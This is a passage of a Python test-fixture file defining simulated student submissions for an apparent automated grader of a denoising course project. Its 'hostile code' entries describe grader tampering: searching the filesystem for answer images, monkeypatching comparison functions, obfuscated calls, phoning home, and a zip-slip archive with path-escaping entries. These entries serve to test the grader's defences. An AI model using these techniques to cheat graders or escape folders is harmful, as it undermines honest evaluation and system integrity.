        contains={"model.train_time": "budget"},
        exit_code=1,
    ),
    Team(
        name="team_slow_train",
        summary="train takes one pair per step and evaluates the loss on the whole training set (both ways) "
                "after every step, for a learning curve: quadratic in the number of pairs, far over the budget",
        folder="Proj_306672_281109",
        edits=[(M, "        self.batch_size = 32\n", "        self.batch_size = 1\n        self.curve = []\n"),
               (M, "                self.optimizer.step()\n",
                "                self.optimizer.step()\n"
                "                a = train_input.to(self.device).float() / 255\n"
                "                b = train_target.to(self.device).float() / 255\n"
                "                # learning curve, both directions: a -> b and b -> a\n"
                "                self.curve.append((self.loss.forward(self.net.forward(a), b),\n"
                "                                   self.loss.forward(self.net.forward(b), a)))\n")],
        expect={"model.train_time": "fail", "model.trained_psnr": "skipped", "model.train_odd_n": "pass",
                "blocks.Conv2d.forward": "pass", "model.pretrained_psnr": "pass"},
        contains={"model.train_time": "budget"},
        options={"n_train": 600},
        details="Graded on 600 pairs (budget 21.6 s on a CPU): 600 steps, each followed by two forward passes over "
                "all 600 pairs. On the course's 50,000 pairs an epoch would take weeks.",
        exit_code=1,
    ),
    Team(
        name="team_memory_hog",
        summary="train pre-allocates a 9.8 GB buffer for the whole course data set at 4x resolution",
        folder="Proj_282209_304478",
        edits=[(M, "        n = train_input.shape[0]\n",
                "        n = train_input.shape[0]\n"
                "        # room for the 50,000 training images upsampled 4x (augmentation experiments)\n"
                "        self.buffer = empty(50000, 3, 128, 128).zero_()\n")],
        expect={"model.train_time": "fail", "model.train_odd_n": "fail", "model.pretrained_psnr": "pass",
                "blocks.Conv2d.forward": "pass"},
        contains={"model.train_time": "memory"},
        exit_code=1,
    ),
    Team(
        name="team_output_flood",
        summary="train prints every layer's whole output at every step (a debugging print left in): tens of MB",
        folder="Proj_294450_276609",
        edits=[(M, "                self.optimizer.zero_grad()\n",
                "                self.optimizer.zero_grad()\n"
                "                h = x  # debugging: what does every layer output?\n"
                "                for layer in self.net.modules:\n"
                "                    h = layer.forward(h)\n"
                "                    print(type(layer).__name__, h.tolist())\n")],
        expect={"model.train_time": "error", "model.pretrained_psnr": "pass", "model.predict_shape": "pass",
                "blocks.Conv2d.forward": "pass"},
        contains={"model.train_time": "printed more than"},
        exit_code=1,
    ),
    Team(
        name="team_child_processes",
        summary="starts a data-loading process pool in Model() and a helper process in train, never stopped",
        folder="Proj_285521_303346",
        edits=[(M, "from pathlib import Path\n", "import multiprocessing\nimport subprocess\nfrom pathlib import Path\n"),
               (M, "        self.batch_size = 32\n",
                "        self.batch_size = 32\n"
                "        self.pool = multiprocessing.Pool(2)  # for data augmentation, some day\n"),
               (M, "        n = train_input.shape[0]\n",
                "        n = train_input.shape[0]\n"
                "        # keeps the machine awake during long runs\n"
                "        self.keepalive = subprocess.Popen([\"sleep\", \"600\"])\n")],
        expect={"rules.risky_code": "warn", "model.train_time": "pass", "model.pretrained_psnr": "pass",
                "blocks.Conv2d.forward": "pass"},
        exit_code=0, score_min=85,
    ),
    # -------------------------------------------------------------- hostile code
    Team(
        name="team_hunt_clean_images",
        summary="predict searches memory, files (~/.cache/n2n-grade, *.pkl, *.npy) and the environment for the "
                "clean validation images and returns them when found",
        folder="Proj_299990_299991",
        files={"model.py@append": HUNTER},
        edits=[(M, PREDICT, HUNTER_PREDICT)],
        expect={"rules.tampering": "fail", "model.predict_shape": "pass"},
        pretrained_psnr_max=30.0,
        details="Run outside the sandbox, the same predict finds val_input.npy and val_target.npy in "
                "~/.cache/n2n-grade and scores 80 dB; graded, it must find nothing and score like team_x.",
        exit_code=1,
    ),
    Team(
        name="team_monkeypatch",
        summary="replaces torch.allclose and any comparison function of a module named like a grader, and "
                "calls conv2d through an obfuscated lookup",
        folder="Proj_299992_299993",
        files={"model.py@append": MONKEYPATCH},
        edits=[(B, CONV_OUT, "        import torch.nn.functional\n"
                             "        conv = getattr(torch.nn.functional, \"con\" + \"v2d\")\n"
                             "        return conv(x, self.weight, self.bias, stride=self.stride, padding=self.padding)\n")],
        expect={"rules.tampering": "fail", "rules.runtime_tampering": "fail", "rules.runtime_forbidden": "fail"},
        exit_code=1,
    ),
    Team(
        name="team_writes_outside",
        summary="train writes logs and checkpoints outside its folder: home, /tmp, the cache, the grader's package",
        folder="Proj_299994_299995",
        files={"model.py@append": WRITER},
        edits=[(M, "                self.optimizer.step()\n",
                "                self.optimizer.step()\n"
                "            _write_everywhere(f\"epoch {epoch} done\\n\")\n"
                "            self.save_model()  # keep the latest weights\n")],
        expect={"rules.tampering": "fail", "model.train_time": "pass"},
        exit_code=1,
    ),
    Team(
        name="team_network",
        summary="downloads its weights from the internet in load_pretrained_model and phones home at import",
        folder="Proj_299996_299997",
        checkpoint="none",
        files={"model.py@append": PHONE_HOME},
        edits=[(M, LOAD, "        path = Path(__file__).parent / \"bestmodel.pth\"\n"
                         "        if not path.exists():\n"
                         "            _phone_home(\"download\")\n"
                         "            urllib.request.urlretrieve(WEIGHTS_URL, path)\n"
                         "        weights = torch.load(path, map_location=self.device)\n")],
        expect={"rules.risky_code": "warn", "model.load_pretrained": "fail", "structure.bestmodel": "fail",
                "model.train_time": "pass"},
        exit_code=0,
    ),
    Team(
        name="team_zip_slip",
        summary="a zip whose entries escape the extraction folder (../../../n2n_pwned_zip_slip.txt, an absolute /tmp path)",
        folder="Proj_299998_299999",
        zip_extra={"Proj_299998_299999/Miniproject_2/../../../n2n_pwned_zip_slip.txt": b"written outside the extraction\n",
                   "/tmp/n2n_pwned_zip_slip_absolute.txt": b"written at an absolute path\n"},
        expect={"structure.layout": "fail"},
        contains={"structure.layout": "n2n_pwned_zip_slip"},
        exit_code=1, score_max=5,
    ),
]
